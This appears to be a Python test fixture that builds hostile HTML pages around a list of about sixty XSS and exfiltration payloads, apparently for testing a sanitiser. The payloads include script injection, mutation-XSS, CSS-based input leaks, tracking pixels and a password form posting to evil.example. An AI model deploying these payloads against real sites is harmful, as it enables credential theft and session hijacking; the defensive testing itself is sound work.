"""Pages that a hostile provider, or somebody who got at its pages, might send. `evil.example` must never be asked for anything."""

SEEN = "SITUAÇÃO: REGULAR"
"""What each page shows besides."""

RAN = "window.__ran = true"

HOSTILE = {
    "script": f"<script>{RAN}</script>",
    "script from elsewhere": "<script src='https://evil.example/x.js'></script>",
    "script never closed": f"<p>{SEEN}</p><script>{RAN}",
    "script in capitals": f"<SCRIPT >{RAN}</SCRIPT\t>",
    "script within script": f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    "module": f"<script type=module>{RAN}</script>",
    "handler": f"<img src=x onerror='{RAN}'>",
    "handler of the body": f"<body onload='{RAN}'>",
    "handler without spaces": f"<svg/onload={RAN.replace(' ', '')}>",
    "handler of details": f"<details open ontoggle='{RAN}'><summary>x</summary></details>",
    "handler of an animation": f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart='{RAN}'>x</p>",
    "autofocus": f"<input autofocus onfocus='{RAN}'>",
    "marquee": f"<marquee onstart='{RAN}'>x</marquee>",
    "script link": f"<a href='javascript:{RAN}'>clique aqui</a>",
    "script link, split": f"<a href='java\tscript:{RAN}'>clique aqui</a>",
    "script link, by entities": f"<a href='&#106;avascript:{RAN}'>clique aqui</a>",
    "page in a link": f"<a href='data:text/html,<script>{RAN}</script>'>clique aqui</a>",
    "link elsewhere": "<a href='https://evil.example/phish' ping='https://evil.example/ping'>clique aqui</a>",
    "image map": "<map name=m><area href='https://evil.example' shape=default></map><img usemap='#m' src=''>",
    "tracking pixel": "<img src='https://evil.example/p.gif' width=1 height=1>",
    "pixel without scheme": "<img src='//evil.example/p.gif'>",
    "pixel, relative": "<img src='/graphql?query={viewer{name}}'>",
    "pixels by set": "<img srcset='https://evil.example/a.gif 1x' src=''><picture><source srcset='//evil.example/b.gif'></picture>",
    "drawing with script": f"<svg><script>{RAN}</script><image href='https://evil.example/x.png'/></svg>",
    "picture that is a drawing": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>\">",
    "style sheet from elsewhere": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "early fetch": "<link rel=preload as=image href='https://evil.example/p'><link rel=dns-prefetch href='//evil.example'>",
    "import": "<style>@import 'https://evil.example/x.css';</style>",
    "import, escaped": "<style>@\\69mport 'https://evil.example/x.css';</style>",
    "background": "<style>body { background: url(https://evil.example/p.gif) }</style>",
    "background, escaped": "<style>body { background: u\\72l(https://evil.example/p.gif) }</style>",
    "background of an element": "<p style='background-image: url(\"https://evil.example/p.gif\")'>x</p>",
    "background by set": "<p style='background: image-set(\"https://evil.example/p.gif\" 1x)'>x</p>",
    "background attribute": "<table background='https://evil.example/p.gif'><tr><td background='//evil.example/q'>x</td></tr></table>",
    "font": "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) } p { font-family: x }</style><p>x</p>",
    "cursor": "<p style='cursor: url(https://evil.example/c.cur), auto'>x</p>",
    "list of pixels": "<ul style='list-style: url(https://evil.example/l.gif)'><li>x</li></ul>",
    "what is typed, by style": "<style>input[value^=a] { background: url(https://evil.example/a) }</style><input value=a>",
    "style that ends early": f"<style>p {{ color: red }}</style><img src=x onerror='{RAN}'></style>",
    "style in a comment": f"<style><!--</style><img src=x onerror='{RAN}'>--></style>",
    "old style tricks": f"<p style='width: expression({RAN}); behavior: url(https://evil.example/x.htc)'>x</p>",
    "form": "<form action='https://evil.example'><input name=senha type=password><button>Entrar</button></form>",
    "form elsewhere": "<button form=f formaction='https://evil.example'>x</button><form id=f></form>",
    "refresh": "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "base": "<base href='https://evil.example/'><img src='p.gif'>",
    "own policy": "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "frame with its own page": f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    "frames": "<frameset><frame src='https://evil.example'></frameset>",
    "object": "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x'>",
    "sound and film": "<video src='https://evil.example/v' poster='//evil.example/p'></video><audio src='//evil.example/a'></audio>",
    "mutation by noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RAN}'>\"></noscript>",
    "mutation by mathematics": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RAN}&gt;'>",
    "mutation by drawing": f"<svg></p><style><a id=\"</style><img src=x onerror='{RAN}'>\">",
    "mutation by template": f"<template><script>{RAN}</script></template>",
    "comment of old browsers": f"<!--[if gte IE 4]><script>{RAN}</script><![endif]-->",
    "comment that ends oddly": f"<!--><script>{RAN}</script>-->",
    "nul in a tag": f"<scr\0ipt>{RAN}</scr\0ipt>",
    "attribute without end": f"<img src=\"x onerror='{RAN}'",
    "custom element": f"<x-y onclick='{RAN}' style='background:url(//evil.example)'>x</x-y>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle='{RAN}'>x</div>",
    "clobbering": "<img name=body src=''><a id=cookie></a>",
    "deep": "<div>" * 20_000,
}  # fmt: skip


def hostile_page(name: str) -> bytes:
    """A whole page around one of them."""
    page = f"<!DOCTYPE html><html><head><title>Relatório</title></head><body><p>{SEEN}</p>{HOSTILE[name]}</body></html>"
    return page.encode()
